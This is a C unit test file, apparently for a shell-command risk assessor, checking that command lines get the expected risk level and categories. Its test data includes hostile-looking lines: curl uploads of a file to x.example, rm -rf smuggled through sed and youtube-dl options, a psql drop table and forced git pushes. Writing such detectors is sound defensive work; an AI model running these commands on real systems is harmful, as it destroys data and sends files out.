/* SPDX-License-Identifier: MIT */
/* Every line of the tables comes with an example: each must get the level and the categories that
 * its line says, when it is read as the whole line of a shell. */
#include "config.h"

#include "base/array.h"
#include "risk/effects.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

struct example {
    const char *line;
    int level;
    unsigned categories;
};

#define D RISK_DATA_DELETION
#define X RISK_DATA_EXFILTRATION
#define P RISK_PRIVILEGE_ESCALATION
#define S RISK_SYSTEM_MODIFICATION
#define N RISK_NETWORK_ACCESS
#define R RISK_RESOURCE_EXHAUSTION
#define C RISK_COMPLIANCE
#define LOW RISK_LOW
#define MEDIUM RISK_MEDIUM
#define HIGH RISK_HIGH
#define VALUES (-1)
#define INPUTS (-1)
#define OUTPUTS (-1)

static const struct example effects[] = {
#define EFFECT(program, path, condition, level, categories, place, phrase, example)                \
    {example, level, categories},
#include "src/risk/effects_table.inc"
#undef EFFECT
};

static const struct example calls[] = {
#define CODE(languages, call, level, categories, phrase, example) {example, level, categories},
#include "risk/code_table.def"
#undef CODE
};

static size_t check(const struct example *example)
{
    static const char *const roots[] = {"/home/op/project", NULL};
    struct assessment got;
    if (*example->line == '\0')
        return 0;
    assessment_of_line(example->line, strlen(example->line), "/home/op/project", roots, &got);
    if ((int)got.level == example->level &&
        (got.level == RISK_LOW || (got.categories & example->categories) == example->categories))
        return 0;
    print_error("%s: %s, categories %#x; expected level %d, %#x\n", example->line,
                risk_level_name(got.level), got.categories, example->level, example->categories);
    return 1;
}

static void programs_do_what_their_line_says(void **state)
{
    size_t wrong = 0, lines = 0;
    (void)state;
    for (size_t i = 0; i < COUNT(effects); i++) {
        wrong += check(&effects[i]);
        lines += *effects[i].line != '\0';
    }
    assert_int_equal(wrong, 0);
    assert_true(lines > 900);
}

/* getopt_long and git take the beginning of a long option for the whole. */
static void abbreviated_options_raise_the_level(void **state)
{
    static const struct example lines[] = {
        {"git push --forc", RISK_HIGH, RISK_DATA_DELETION | RISK_NETWORK_ACCESS},
        {"git reset --ha", RISK_HIGH, RISK_DATA_DELETION},
        {"git checkout --f", RISK_HIGH, RISK_DATA_DELETION},
        {"git rm --forc src", RISK_HIGH, RISK_DATA_DELETION},
        {"curl --data-bin @notes.txt https://x.example/", RISK_HIGH, RISK_DATA_EXFILTRATION},
        {"curl --upl notes.txt https://x.example/", RISK_HIGH, RISK_DATA_EXFILTRATION},
        {"git rebase --ex ./x main", RISK_HIGH, 0},
        {"git push --e=./x origin main", RISK_HIGH, 0},
        {"git push --dry-run --no-dry -f origin main", RISK_HIGH, RISK_DATA_DELETION},
        {"git clean -n --no-d -fd", RISK_HIGH, RISK_DATA_DELETION},
        {"git clean -fd --exc -n", RISK_HIGH, RISK_DATA_DELETION},
        {"git config --glob user.name x", RISK_HIGH, RISK_SYSTEM_MODIFICATION},
        {"git config --unset-a user.name", RISK_MEDIUM, 0},
        {"sed --expr='1e rm -rf src' a.txt", RISK_HIGH, RISK_DATA_DELETION},
        {"psql --comm='drop table x'", RISK_HIGH, RISK_DATA_DELETION},
        {"youtube-dl --exe 'rm -rf src' https://x.example/", RISK_HIGH, RISK_DATA_DELETION},
        {"sort --outp=b.txt a.txt", RISK_MEDIUM, 0},
        {"sed --in-pl s/a/b/ a.txt", RISK_MEDIUM, 0},
        /* an option of that name is no abbreviation, not every program takes one, and none makes
         * an exception */
        {"gpg --sign a.txt", RISK_MEDIUM, 0},
        {"tar --checkpoint=1000 -cf a.tar src", RISK_MEDIUM, 0},
        {"uv pip install --extra dev -r pyproject.toml", RISK_MEDIUM, 0},
        {"svn log --diff", RISK_LOW, 0},
        {"curl --data a=b https://x.example/", RISK_MEDIUM, RISK_NETWORK_ACCESS},
        {"git rm --force --cach src", RISK_HIGH, RISK_DATA_DELETION},
        {"git checkout -- --forc", RISK_HIGH, RISK_DATA_DELETION},
        {"git grep -- --forc", RISK_LOW, 0},
    };
    size_t wrong = 0;
    (void)state;
    for (size_t i = 0; i < COUNT(lines); i++)
        wrong += check(&lines[i]);
    assert_int_equal(wrong, 0);
}

static void calls_do_what_their_line_says(void **state)
{
    size_t wrong = 0;
    (void)state;
    for (size_t i = 0; i < COUNT(calls); i++)
        wrong += check(&calls[i]);
    assert_int_equal(wrong, 0);
}

static void patterns_fit(void **state)
{
    (void)state;
    assert_true(effects_fits("a*c", 3, "abc"));
    assert_true(effects_fits("*", 1, ""));
    assert_true(effects_fits("*.pem", 5, "a/b.pem"));
    assert_false(effects_fits("a*c", 3, "abd"));
    assert_false(effects_fits("abc", 3, "ab"));
    assert_false(effects_fits("ab", 2, "abc"));
}

static void options_are_found_with_their_values(void **state)
{
    const char *const words[] = {"curl", "-sX", "POST", "-oout", "--data=@x", "https://x/"};
    struct effect_reading reading;
    (void)state;
    effects_read(words, COUNT(words), &reading);
    assert_string_equal(effects_option(&reading, "-X"), "POST");
    assert_string_equal(effects_option(&reading, "-o"), "out");
    assert_string_equal(effects_option(&reading, "--data"), "@x");
    assert_null(effects_option(&reading, "-T"));
    assert_int_equal(reading.operand_count, 1);
    assert_int_equal(reading.operands[0], 5);
    assert_int_equal(reading.file_count, 1);
    assert_string_equal(reading.files[0].path, "out");
    effects_clear(&reading);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(programs_do_what_their_line_says),
        cmocka_unit_test(abbreviated_options_raise_the_level),
        cmocka_unit_test(calls_do_what_their_line_says),
        cmocka_unit_test(patterns_fit),
        cmocka_unit_test(options_are_found_with_their_values),
    };
    return cmocka_run_group_tests_name("effects", tests, NULL, NULL);
}
